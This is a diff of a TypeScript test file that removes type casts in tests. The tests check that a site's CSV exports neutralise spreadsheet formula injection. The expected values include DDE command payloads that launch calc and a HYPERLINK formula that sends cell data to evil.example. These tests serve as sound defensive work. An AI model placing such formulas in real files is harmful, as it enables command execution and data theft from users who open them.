@@ -200,7 +200,7 @@ describe('refused by the build’s own MDX processor, whether or not the validat
   const compile = async (file: string) => {
     renderer ??= (await bodyProcessor().createMdxRenderer!(
       { syntaxHighlight: false, shikiConfig: {}, gfm: true, smartypants: true } as never,
-      { optimize: false, srcDir: new URL(`file://${process.cwd()}/src/`), sourcemap: false } as never,
+      { optimize: false, srcDir: new URL(`file://${process.cwd()}/src/`), sourcemap: false },
     )) as typeof renderer;
     // What @astrojs/mdx hands the processor: the file with its frontmatter blanked, lines kept.
     const text = fs.readFileSync(file, 'utf8').replace(/^---\n[\s\S]*?\n---\n/, (fm) => fm.replace(/[^\n]/g, ' '));
@@ -275,16 +275,16 @@ describe('accepted, and harmless in the output (read back by real parsers)', () 
     const record = recordOf(content('csv-formula'));
     const site = 'https://tracker.example/';
     for (const csv of [entriesCsv(record, site), quotesCsv(record, site)]) {
-      const rows = parseCsv(csv, { bom: true }) as string[][];
+      const rows = parseCsv(csv, { bom: true });
       for (const cell of rows.flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\n]/);
     }
-    const quotes = parseCsv(quotesCsv(record, site), { columns: true }) as Array<Record<string, string>>;
+    const quotes = parseCsv<Record<string, string>>(quotesCsv(record, site), { columns: true });
     expect(quotes.filter((q) => q['entry'] === 'hostile-csv-formula').map((q) => q['text'])).toEqual([
       "'@SUM(1+1)*cmd|' /C calc'!A0",
       "'-2+3+cmd|' /C calc'!A0",
       "'=1+1", // the schema trims text; a cell starting with a tab is neutralised too (property test)
     ]);
-    const entries = parseCsv(entriesCsv(record, site), { columns: true }) as Array<Record<string, string>>;
+    const entries = parseCsv<Record<string, string>>(entriesCsv(record, site), { columns: true });
     const row = entries.find((e) => e['slug'] === 'hostile-csv-formula')!;
     expect(row['title']).toBe('\'=HYPERLINK("https://evil.example/?"&A1, "Click")');
     expect(row['summary']!.startsWith("'+1+cmd")).toBe(true);
